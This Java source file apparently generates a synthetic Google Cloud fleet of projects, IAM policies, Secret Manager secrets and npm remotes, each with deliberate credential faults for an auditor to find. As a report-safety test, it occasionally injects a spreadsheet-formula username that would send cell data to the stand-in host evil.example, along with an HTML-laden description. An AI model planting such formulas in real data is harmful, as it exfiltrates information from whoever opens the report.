package dev.arcred.emulator.generate;

import static dev.arcred.emulator.generate.Binding.ACCESSOR;
import static dev.arcred.emulator.generate.Binding.METADATA_VIEWER;
import static dev.arcred.emulator.generate.Binding.SECRET_VIEWER;
import static dev.arcred.emulator.generate.Binding.TOKEN_READER;
import static dev.arcred.emulator.generate.Binding.UPSTREAM_TOKEN_READER;
import static dev.arcred.emulator.generate.Binding.VERSION_MANAGER;

import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.arcred.emulator.generate.Binding.Condition;
import dev.arcred.emulator.generate.Binding.Policy;
import dev.arcred.emulator.generate.Upstream.GroupToken;
import java.time.Duration;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.EnumMap;
import java.util.HashMap;
import java.util.HashSet;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;

/**
 * Decides everything about one project (its policy, its secrets, its repositories and their faults) from the seed
 * and the project's index alone, so that projects can be planned one at a time and forgotten once written.
 *
 * <p>How the counts stay exact: a healthy npm remote pins the newest version (ENABLED) of a shared token, granted
 * to its project's service agent on the secret itself, with no expiry in sight and no public or broad grant
 * anywhere above it. A broken one differs by exactly one fault. Faults of the reference (missing, malformed,
 * unknown secret or version, alias, superseded pin) use the shared tokens; faults of the secret or its access get
 * a secret of their own. A broad grant (on the project or its folder) would open every secret below it to the
 * project's agent, so a project with such a fault keeps all its other repositories' tokens in the central project.
 */
final class ProjectPlanner {
  /** The chance that an npm remote whose upstream has a business-unit token uses it (about half of all). */
  private static final double CENTRAL_SHARE = 0.54;
  private static final double BY_NUMBER = 0.15;
  private static final double OTHER_REPOSITORIES = 0.2;
  private static final String[] NOT_FOUND_SUFFIXES = {"legacy", "old", "2024", "deprecated"};
  private static final String FORMULA_USERNAME = "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"open\")";

  private final Organization org;
  private final Instant now;
  private final long seed;
  private final List<String> regions;
  private final int[] groupNewest;

  record ProjectPlan(int project, List<Binding> policy, List<SecretPlan> secrets, List<RepoPlan> repositories) {}

  /** Where a project's broad-access fault grants its agent a Secret Manager role: the project or its folder. */
  record BroadGrant(boolean onFolder, String role) {}

  ProjectPlanner(Organization org) {
    this.org = org;
    this.now = org.spec.now();
    this.seed = org.spec.seed();
    this.regions = org.spec.regions();
    int tokens = GroupToken.values().length;
    groupNewest = new int[org.groups() * tokens];
    for (int g = 0; g < org.groups(); g++) {
      for (GroupToken t : GroupToken.values()) {
        groupNewest[g * tokens + t.ordinal()] = groupSecret(t, g, false).newest();
      }
    }
  }

  // --- the organization, folders and the central project

  List<Binding> organizationPolicy() {
    return new Policy()
        .add("roles/resourcemanager.organizationAdmin", user("cto"))
        .add("roles/resourcemanager.organizationAdmin", group("gcp-org-admins"))
        .add("roles/owner", group("gcp-org-admins"))
        .add("roles/iam.securityReviewer", group("security-auditors"))
        .add("roles/viewer", group("security-auditors"))
        .add("roles/billing.user", group("finance"))
        .add("roles/browser", "domain:" + Organization.DOMAIN)
        .add(SECRET_VIEWER, group("secops"))
        .bindings();
  }

  List<Binding> folderPolicy(int folder, List<Binding> broadGrants) {
    Random r = Seeds.random(seed, Seeds.FOLDER_POLICY, folder);
    String name = org.folderName(folder);
    Policy policy = new Policy();
    if (r.nextDouble() < 0.7) {
      policy.add("roles/owner", group(name + "-leads"));
    }
    if (r.nextDouble() < 0.5) {
      policy.add("roles/resourcemanager.folderViewer", group("engineering"));
    }
    if (r.nextDouble() < 0.3) {
      policy.add("roles/editor", group(name + "-devs"));
    }
    if (r.nextDouble() < 0.2) {
      policy.add("roles/artifactregistry.reader", group(name + "-devs"));
    }
    broadGrants.forEach(b -> b.members().forEach(m -> policy.add(b.role(), m)));
    return policy.bindings();
  }

  List<Binding> centralProjectPolicy() {
    return new Policy()
        .add("roles/owner", group("platform-team"))
        .add("roles/secretmanager.admin", group("secops"))
        .add("roles/viewer", group("sre"))
        .add(VERSION_MANAGER, rotator())
        .bindings();
  }

  /** A business unit's token in the central project; with its policy (every agent of the unit) when asked. */
  SecretPlan groupSecret(GroupToken token, int g, boolean withPolicy) {
    Random r = Seeds.random(seed, Seeds.GROUP, (long) g * GroupToken.values().length + token.ordinal());
    SecretPlan s = new SecretPlan(Organization.CENTRAL, token.secretId(g), daysBefore(r, 500, 1200));
    s.labels.put("owner", "platform");
    s.labels.put("upstream", token.prefix.replace("-token", ""));
    s.labels.put("business-unit", "bu" + String.format("%03d", g));
    switch (token) {
      case NPMJS -> {
        // Rotated quarterly; the previous version stays enabled while repositories move over.
        s.userManaged = true;
        int k = 2 + r.nextInt(4);
        String[] states = new String[k];
        for (int i = 0; i < k - 2; i++) {
          states[i] = r.nextBoolean() ? "DESTROYED" : "DISABLED";
        }
        states[k - 2] = "ENABLED";
        states[k - 1] = "ENABLED";
        history(s, r, states);
        s.labels.put("rotation", "quarterly");
      }
      case GITHUB -> {
        s.userManaged = true;
        history(s, r, olderThenEnabled(1 + r.nextInt(3), "DISABLED"));
        if (r.nextBoolean()) {
          s.expires = daysAfter(r, 400, 1400);
        }
      }
      case ARTIFACTORY -> {
        int k = 1 + r.nextInt(3);
        history(s, r, olderThenEnabled(k, "ENABLED"));
        s.aliases.put("current", k);
      }
      case VERDACCIO, DOCKERHUB -> history(s, r, new String[] {"ENABLED"});
      case PYPI -> history(s, r, new String[] {"DISABLED"}); // broken on purpose: python remotes are not audited
      default -> throw new AssertionError(token);
    }
    if (withPolicy) {
      List<String> agents = new ArrayList<>(Organization.GROUP_SIZE);
      for (int p = org.groupFirst(g); p < org.groupEnd(g); p++) {
        agents.add(org.agent(p));
      }
      Policy policy = new Policy();
      switch (token) {
        case NPMJS -> policy.addAll(ACCESSOR, agents).add(VERSION_MANAGER, rotator());
        case GITHUB -> policy.addAll(ACCESSOR, agents).add(SECRET_VIEWER, group("platform-team"));
        case ARTIFACTORY -> policy.addAll(UPSTREAM_TOKEN_READER, agents);
        case VERDACCIO -> policy.addAll(TOKEN_READER, agents).add(METADATA_VIEWER, group("registry-admins"));
        default -> policy.addAll(ACCESSOR, agents);
      }
      s.policy = policy.bindings();
    }
    return s;
  }

  private int groupNewest(GroupToken token, int g) {
    return groupNewest[g * GroupToken.values().length + token.ordinal()];
  }

  /** Whether project p's broad-access faults grant on its folder (never the central project's) or on itself. */
  BroadGrant broadGrant(int p) {
    Random r = Seeds.random(seed, Seeds.BROAD, p);
    int folder = org.projectFolder(p);
    boolean folderAllowed = folder >= 0 && folder != org.projectFolder(Organization.CENTRAL);
    boolean onFolder = r.nextBoolean() && folderAllowed;
    return new BroadGrant(onFolder, r.nextInt(4) == 0 ? TOKEN_READER : ACCESSOR);
  }

  boolean hasBroadFault(int p) {
    for (int i = org.repoStart(p), end = i + org.repoCount(p); i < end; i++) {
      if (org.fault(i) == FaultKind.SERVICE_AGENT_BROAD_ACCESS) {
        return true;
      }
    }
    return false;
  }

  // --- one project

  ProjectPlan plan(int p) {
    return new Builder(p).build();
  }

  private final class Builder {
    final int p;
    final String pid;
    final String unit;
    final Random r;
    final boolean broadProject;
    final Policy policy = new Policy();
    final Map<Upstream, SecretPlan> own = new EnumMap<>(Upstream.class);
    final List<SecretPlan> secrets = new ArrayList<>();
    final List<RepoPlan> repositories = new ArrayList<>();
    final Map<String, Set<String>> names = new HashMap<>();
    final Map<String, List<String>> npmByLocation = new LinkedHashMap<>();

    Builder(int p) {
      this.p = p;
      this.pid = org.projectId(p);
      this.unit = pid.substring(0, pid.indexOf('-'));
      this.r = Seeds.random(seed, Seeds.PLAN, p);
      this.broadProject = hasBroadFault(p);
    }

    ProjectPlan build() {
      basePolicy();
      int home = r.nextInt(regions.size());
      int start = org.repoStart(p);
      for (int i = 0; i < org.repoCount(p); i++) {
        String location = regions.get(r.nextDouble() < 0.6 ? home : r.nextInt(regions.size()));
        npmRemote(org.fault(start + i), location);
      }
      int npm = repositories.size();
      for (int i = 0; i < npm; i++) {
        if (r.nextDouble() < OTHER_REPOSITORIES) {
          otherRepository(repositories.get(i).location());
        }
      }
      if (broadProject) {
        BroadGrant grant = broadGrant(p);
        if (!grant.onFolder()) {
          policy.add(grant.role(), org.agent(p));
        }
      }
      List<SecretPlan> all = new ArrayList<>(own.values());
      all.addAll(secrets);
      return new ProjectPlan(p, policy.bindings(), all, repositories);
    }

    void basePolicy() {
      Random pr = Seeds.random(seed, Seeds.POLICY, p);
      String ci = "serviceAccount:ci-deployer@" + pid + ".iam.gserviceaccount.com";
      policy.add("roles/owner", user(unit + "-lead"));
      policy.add("roles/viewer", group(unit + "-devs"));
      if (pr.nextDouble() < 0.6) {
        policy.add("roles/artifactregistry.writer", ci);
      }
      if (pr.nextDouble() < 0.3) {
        policy.add("roles/editor", group(unit + "-devs"));
      }
      if (pr.nextDouble() < 0.1) {
        policy.add(VERSION_MANAGER, ci);
      }
      if (pr.nextDouble() < 0.1) {
        policy.add(SECRET_VIEWER, group(unit + "-devs"));
      }
      if (pr.nextDouble() < 0.03) {
        // Public packages: allUsers may read the repositories, which grants nothing on secrets.
        policy.add("roles/artifactregistry.reader", "allUsers");
      }
      if (pr.nextDouble() < 0.03) {
        // Editor does not hold secretmanager.versions.access: harmless for the agent, a trap for auditors.
        policy.add("roles/editor", org.agent(p));
      }
    }

    void npmRemote(FaultKind fault, String location) {
      Upstream up = Upstream.pick(r);
      boolean central;
      if (fault == FaultKind.SERVICE_AGENT_BROAD_ACCESS) {
        central = false;
      } else if (broadProject || fault == FaultKind.SECRET_VERSION_SUPERSEDED) {
        central = true;
      } else {
        central = up.central() && r.nextDouble() < CENTRAL_SHARE;
      }
      if (fault == FaultKind.SECRET_VERSION_SUPERSEDED || central && !up.central()) {
        up = Upstream.NPMJS;
      }
      String id = uniqueName(location, up.names);
      String username = up.usernames[r.nextInt(up.usernames.length)];
      if (fault == null && r.nextDouble() < 0.003) {
        username = FORMULA_USERNAME; // report-safety: a value from the fleet that a spreadsheet would run
      }
      String reference = null;
      ObjectNode blank = null; // CREDENTIALS_MISSING written as an empty or blank credentials object
      if (fault == null) {
        reference = reference(target(up, central), null);
      } else {
        switch (fault) {
          case CREDENTIALS_MISSING -> {
            username = null;
            int v = r.nextInt(20);
            if (v == 0) {
              blank = JsonNodeFactory.instance.objectNode().put("username", "  ");
            } else if (v <= 2) {
              blank = JsonNodeFactory.instance.objectNode();
            }
          }
          case CREDENTIALS_INCOMPLETE -> {
            if (r.nextDouble() >= 0.6) { // the token set, the username forgotten; else the reverse
              reference = reference(target(up, central), null);
              username = null;
            }
          }
          case SECRET_REFERENCE_INVALID -> reference = malformed(target(up, central), location);
          case SECRET_NOT_FOUND -> {
            int owner = central ? Organization.CENTRAL : p;
            String base = central ? up.groupToken.prefix : up.ownSecret;
            reference = "projects/" + projectRef(owner) + "/secrets/" + base + "-"
                + NOT_FOUND_SUFFIXES[r.nextInt(NOT_FOUND_SUFFIXES.length)] + "/versions/" + (1 + r.nextInt(3));
          }
          case SECRET_VERSION_NOT_FOUND -> {
            Target t = target(up, central);
            reference = reference(t, String.valueOf(t.newest + 1 + r.nextInt(6)));
          }
          case SECRET_VERSION_FLOATING -> {
            Target t = target(up, central);
            reference = reference(t, t.currentAlias && r.nextBoolean() ? "current" : "latest");
          }
          case SECRET_VERSION_SUPERSEDED -> {
            Target t = target(Upstream.NPMJS, true); // its two newest versions are ENABLED
            reference = reference(t, String.valueOf(t.newest - 1));
          }
          default -> reference = dedicated(fault, up, central, id, location);
        }
      }
      ObjectNode credentials = blank;
      if (username != null || reference != null) {
        credentials = JsonNodeFactory.instance.objectNode();
        if (username != null) {
          credentials.put("username", username);
        }
        if (reference != null) {
          credentials.put("passwordSecretVersion", reference);
        }
      }
      ObjectNode config = JsonNodeFactory.instance.objectNode();
      config.put("description", up.description);
      up.source(config);
      if (credentials != null) {
        config.putObject("upstreamCredentials").set("usernamePasswordCredentials", credentials);
      }
      String description = up.description + " (" + location + ")";
      if (r.nextDouble() < 0.005) {
        description = "Mirror for <b>" + unit + "</b> builds, \"fast\" path"; // report-safety
      }
      repositories.add(repository(location, id, "NPM", "REMOTE_REPOSITORY", description, "remoteRepositoryConfig",
          config, true, fault, reference != null && central));
      npmByLocation.computeIfAbsent(location, l -> new ArrayList<>()).add(id);
    }

    /** A secret of the repository's own for a fault of the secret or its access; returns the reference. */
    String dedicated(FaultKind fault, Upstream up, boolean central, String repo, String location) {
      int owner = central ? Organization.CENTRAL : p;
      String id = central ? up.ownSecret + "-" + pid + "-" + repo + "-" + location : up.ownSecret + "-" + repo + "-" + location;
      SecretPlan s = new SecretPlan(owner, id, daysBefore(r, 60, 700));
      s.labels.put("team", unit);
      s.labels.put("repository", repo);
      secrets.add(s);
      String agent = org.agent(p);
      Policy access = new Policy().add(ACCESSOR, agent);
      int pin = 1;
      switch (fault) {
        case SECRET_VERSION_DISABLED -> {
          int v = r.nextInt(3);
          if (v == 0) { // revoked upstream, disabled, never replaced
            history(s, r, new String[] {"DISABLED"});
          } else if (v == 1) { // a botched rotation: the new version was disabled, the pin followed it
            history(s, r, new String[] {"ENABLED", "DISABLED"});
            pin = 2;
          } else { // rotated, but this repository still pins the old, now disabled, version
            history(s, r, new String[] {"DISABLED", "ENABLED"});
          }
        }
        case SECRET_VERSION_DESTROYED -> history(s, r, r.nextBoolean()
            ? new String[] {"DESTROYED"} : new String[] {"DESTROYED", "ENABLED"});
        case SECRET_VERSION_DESTROY_SCHEDULED -> {
          // A leaked token: disabled, destruction delayed by the secret's 30-day TTL; a new version replaces it.
          int left = 1 + r.nextInt(29);
          Instant disabled = now.plus(Duration.ofDays(left - 30)).minusSeconds(r.nextInt(86_400));
          s.destroyTtl = "2592000s";
          s.version("DISABLED", between(r, s.created, disabled), null, disabled.plus(Duration.ofDays(30)));
          s.version("ENABLED", disabled.plusSeconds(300 + r.nextInt(3600)));
        }
        case SECRET_EXPIRING -> {
          // A token created with a TTL (a contractor's, a trial's): it expires within the warning window.
          history(s, r, r.nextBoolean() ? new String[] {"ENABLED"} : new String[] {"DISABLED", "ENABLED"});
          pin = s.newest();
          s.expires = now.plus(Duration.ofDays(1 + r.nextInt(27))).plusSeconds(r.nextInt(86_400));
          s.labels.put("ttl", "temporary");
        }
        case SECRET_PUBLIC -> {
          history(s, r, new String[] {"ENABLED"});
          int v = r.nextInt(7);
          if (v < 4) { // opened to every Google account while debugging a 403
            access.add(ACCESSOR, "allAuthenticatedUsers");
          } else if (v < 6) {
            access.add(ACCESSOR, "allUsers");
          } else {
            access.add(TOKEN_READER, "allAuthenticatedUsers");
          }
        }
        case SERVICE_AGENT_NO_ACCESS -> {
          history(s, r, new String[] {"ENABLED"});
          access = new Policy();
          switch (r.nextInt(6)) {
            case 0 -> access.add(ACCESSOR, org.agent(p + 1 < org.projects() ? p + 1 : p - 1)); // copied from a sibling
            case 1 -> access.add(VERSION_MANAGER, agent); // can add and disable versions, not read them
            case 2 -> access.add(METADATA_VIEWER, agent); // a custom role without versions.access
            case 3 -> access.add(ACCESSOR, group(unit + "-devs")); // the developers, not the agent
            case 4 -> policy.add("roles/editor", agent); // Editor on the project holds no versions.access
            default -> access.add(SECRET_VIEWER, agent);
          }
        }
        case SERVICE_AGENT_CONDITIONAL_ACCESS -> {
          history(s, r, new String[] {"ENABLED"});
          Condition condition = switch (r.nextInt(3)) {
            case 0 -> new Condition("temporary-access", "Granted during a migration",
                "request.time < timestamp(\"" + daysAfter(r, 30, 400) + "\")");
            case 1 -> new Condition("npm-tokens-only", "Only this token",
                "resource.name.startsWith(\"projects/" + org.projectNumber(owner) + "/secrets/" + id + "\")");
            default -> new Condition("business-hours", null,
                "request.time.getHours(\"Europe/Berlin\") >= 7 && request.time.getHours(\"Europe/Berlin\") < 20");
          };
          access = new Policy().add(r.nextInt(4) == 0 ? TOKEN_READER : ACCESSOR, agent, condition);
        }
        case SERVICE_AGENT_BROAD_ACCESS -> {
          // Readable only through the grant on the project or folder (see broadGrant): no binding here.
          history(s, r, new String[] {"ENABLED"});
          access = new Policy();
          if (r.nextBoolean()) {
            access.add(SECRET_VIEWER, group(unit + "-devs"));
          }
        }
        default -> throw new AssertionError(fault);
      }
      s.policy = access.bindings();
      return "projects/" + projectRef(owner) + "/secrets/" + id + "/versions/" + pin;
    }

    String malformed(Target t, String location) {
      String secret = "projects/" + projectRef(t.project) + "/secrets/" + t.id;
      return switch (r.nextInt(6)) {
        case 0 -> secret + "/versions/0"; // meant as "latest"
        case 1 -> secret + "/versions/0" + t.newest; // leading zero
        case 2 -> "projects/" + projectRef(t.project) + "/locations/" + location + "/secrets/" + t.id + "/versions/"
            + t.newest; // the regional form
        case 3 -> t.id; // a bare secret ID
        case 4 -> secret; // no version
        default -> secret + "/versions/" + t.newest + "/payload"; // extra segments
      };
    }

    record Target(int project, String id, int newest, boolean currentAlias) {}

    /** The shared token a healthy repository of this upstream would use: its unit's or its project's. */
    Target target(Upstream up, boolean central) {
      if (central) {
        int g = org.group(p);
        return new Target(Organization.CENTRAL, up.groupToken.secretId(g), groupNewest(up.groupToken, g),
            up.groupToken == GroupToken.ARTIFACTORY);
      }
      SecretPlan s = own.computeIfAbsent(up, this::ownSecret);
      return new Target(p, s.id, s.newest(), false);
    }

    SecretPlan ownSecret(Upstream up) {
      SecretPlan s = new SecretPlan(p, up.ownSecret, daysBefore(r, 90, 1000));
      int k = 1 + r.nextInt(4);
      String[] states = new String[k];
      for (int i = 0; i < k - 1; i++) {
        double x = r.nextDouble();
        states[i] = x < 0.3 ? "DESTROYED" : x < 0.7 ? "DISABLED" : "ENABLED";
      }
      states[k - 1] = "ENABLED";
      history(s, r, states);
      s.labels.put("team", unit);
      if (r.nextDouble() < 0.2) {
        s.expires = daysAfter(r, 400, 1500);
      }
      Policy access = new Policy().add(r.nextDouble() < 0.2 ? TOKEN_READER : ACCESSOR, org.agent(p));
      if (r.nextDouble() < 0.3) {
        access.add(SECRET_VIEWER, group(unit + "-devs"));
      }
      if (r.nextDouble() < 0.2) {
        access.add(VERSION_MANAGER, "serviceAccount:ci-deployer@" + pid + ".iam.gserviceaccount.com");
      }
      s.policy = access.bindings();
      return s;
    }

    /** A pinned reference to the newest version, or to {@code version} when given. */
    String reference(Target t, String version) {
      return "projects/" + projectRef(t.project) + "/secrets/" + t.id + "/versions/"
          + (version == null ? String.valueOf(t.newest) : version);
    }

    /** People write project IDs; some paste the number Secret Manager shows. */
    String projectRef(int project) {
      return r.nextDouble() < BY_NUMBER ? org.projectNumber(project) : org.projectId(project);
    }

    void otherRepository(String location) {
      int kind = r.nextInt(100);
      JsonNodeFactory f = JsonNodeFactory.instance;
      if (kind < 25) {
        String id = uniqueName(location, new String[] {"npm-internal", "npm-packages", "internal-packages"});
        repositories.add(repository(location, id, "NPM", "STANDARD_REPOSITORY", "Packages " + unit + " publishes",
            null, null, false, null, false));
        npmByLocation.computeIfAbsent(location, l -> new ArrayList<>()).add(id);
      } else if (kind < 40) {
        String id = uniqueName(location, new String[] {"npm", "npm-all", "npm-virtual"});
        ObjectNode config = f.objectNode();
        ArrayNode upstreams = config.putArray("upstreamPolicies");
        List<String> members = npmByLocation.getOrDefault(location, List.of());
        for (int i = 0; i < Math.min(4, members.size()); i++) {
          upstreams.addObject().put("id", members.get(i))
              .put("repository", "projects/" + pid + "/locations/" + location + "/repositories/" + members.get(i))
              .put("priority", 100 - 10 * i);
        }
        repositories.add(repository(location, id, "NPM", "VIRTUAL_REPOSITORY", "One npm endpoint for " + unit,
            "virtualRepositoryConfig", config, false, null, false));
      } else if (kind < 60) {
        ObjectNode config = f.objectNode().put("description", "Docker Hub");
        config.putObject("dockerRepository").put("publicRepository", "DOCKER_HUB");
        int v = r.nextInt(10);
        if (v < 5) {
          int g = org.group(p);
          credentials(config, "megacorpbuild", "projects/" + projectRef(Organization.CENTRAL) + "/secrets/"
              + GroupToken.DOCKERHUB.secretId(g) + "/versions/" + groupNewest(GroupToken.DOCKERHUB, g));
        } else if (v < 7) { // broken on purpose: a secret that does not exist (surfaces only with --formats docker)
          credentials(config, "megacorpbuild", "projects/" + pid + "/secrets/dockerhub-token/versions/1");
        }
        repositories.add(repository(location, uniqueName(location, new String[] {"dockerhub", "docker-hub-mirror"}),
            "DOCKER", "REMOTE_REPOSITORY", "Docker Hub mirror", "remoteRepositoryConfig", config, false, null, false));
      } else if (kind < 75) {
        ObjectNode config = f.objectNode().put("description", "Maven Central");
        config.putObject("mavenRepository").put("publicRepository", "MAVEN_CENTRAL");
        repositories.add(repository(location, uniqueName(location, new String[] {"maven-central", "maven-remote"}),
            "MAVEN", "REMOTE_REPOSITORY", "Maven Central mirror", "remoteRepositoryConfig", config, false, null, false));
      } else if (kind < 90) {
        ObjectNode config = f.objectNode().put("description", "PyPI");
        config.putObject("pythonRepository").put("publicRepository", "PYPI");
        if (r.nextBoolean()) { // pinned to the unit's PyPI token, whose only version is DISABLED
          credentials(config, "__token__", "projects/" + projectRef(Organization.CENTRAL) + "/secrets/"
              + GroupToken.PYPI.secretId(org.group(p)) + "/versions/1");
        }
        repositories.add(repository(location, uniqueName(location, new String[] {"pypi", "pypi-proxy"}),
            "PYTHON", "REMOTE_REPOSITORY", "PyPI mirror", "remoteRepositoryConfig", config, false, null, false));
      } else {
        repositories.add(repository(location, uniqueName(location, new String[] {"images", "docker-images", "ci-images"}),
            "DOCKER", "STANDARD_REPOSITORY", "Container images of " + unit, null, null, false, null, false));
      }
    }

    void credentials(ObjectNode config, String username, String reference) {
      config.putObject("upstreamCredentials").putObject("usernamePasswordCredentials")
          .put("username", username).put("passwordSecretVersion", reference);
    }

    RepoPlan repository(String location, String id, String format, String mode, String description, String configKey,
        ObjectNode config, boolean audited, FaultKind fault, boolean centralSecret) {
      Instant created = daysBefore(r, 20, 900);
      Instant updated = between(r, created, now.minus(Duration.ofHours(1)));
      Map<String, String> labels = new LinkedHashMap<>();
      labels.put("team", unit);
      labels.put("env", org.env(p));
      labels.put("managed-by", r.nextDouble() < 0.8 ? "terraform" : "console");
      long size = 1_048_576L * (1 + r.nextInt(mode.equals("STANDARD_REPOSITORY") ? 20_000 : 900));
      return new RepoPlan(location, id, format, mode, description, labels, created, updated, size, configKey, config,
          audited, fault, centralSecret);
    }

    /** A repository ID not yet used in that location of this project. */
    String uniqueName(String location, String[] bases) {
      Set<String> used = names.computeIfAbsent(location, l -> new HashSet<>());
      int first = r.nextInt(bases.length);
      for (int n = 1; ; n++) {
        for (int i = 0; i < bases.length; i++) {
          String candidate = bases[(first + i) % bases.length] + (n == 1 ? "" : "-" + n);
          if (used.add(candidate)) {
            return candidate;
          }
        }
      }
    }
  }

  // --- helpers

  /** Versions 1..n in the given states (oldest first), created in order between the secret's creation and now. */
  private void history(SecretPlan s, Random r, String[] states) {
    Instant last = now.minus(Duration.ofDays(2));
    long span = Math.max(1, last.getEpochSecond() - s.created.getEpochSecond());
    Instant[] created = new Instant[states.length];
    for (int i = 0; i < states.length; i++) {
      double at = (i + 0.5 * r.nextDouble()) / states.length;
      created[i] = s.created.plusSeconds((long) (span * at));
    }
    for (int i = 0; i < states.length; i++) {
      Instant destroyed = null;
      if (states[i].equals("DESTROYED")) {
        Instant after = i + 1 < states.length ? created[i + 1] : created[i];
        destroyed = between(r, after, now.minus(Duration.ofDays(1)));
      }
      s.version(states[i], created[i], destroyed, null);
    }
  }

  private static String[] olderThenEnabled(int k, String older) {
    String[] states = new String[k];
    java.util.Arrays.fill(states, older);
    states[k - 1] = "ENABLED";
    return states;
  }

  private Instant daysBefore(Random r, int min, int max) {
    return now.minus(Duration.ofDays(min + r.nextInt(max - min + 1))).minusSeconds(r.nextInt(86_400));
  }

  private Instant daysAfter(Random r, int min, int max) {
    return now.plus(Duration.ofDays(min + r.nextInt(max - min + 1))).truncatedTo(ChronoUnit.DAYS);
  }

  private static Instant between(Random r, Instant from, Instant to) {
    long span = to.getEpochSecond() - from.getEpochSecond();
    return span <= 0 ? from : from.plusSeconds((long) (r.nextDouble() * span));
  }

  private static String user(String name) {
    return "user:" + name + "@" + Organization.DOMAIN;
  }

  private static String group(String name) {
    return "group:" + name + "@" + Organization.DOMAIN;
  }

  private static String rotator() {
    return "serviceAccount:npm-rotator@" + Organization.CENTRAL_ID + ".iam.gserviceaccount.com";
  }
}
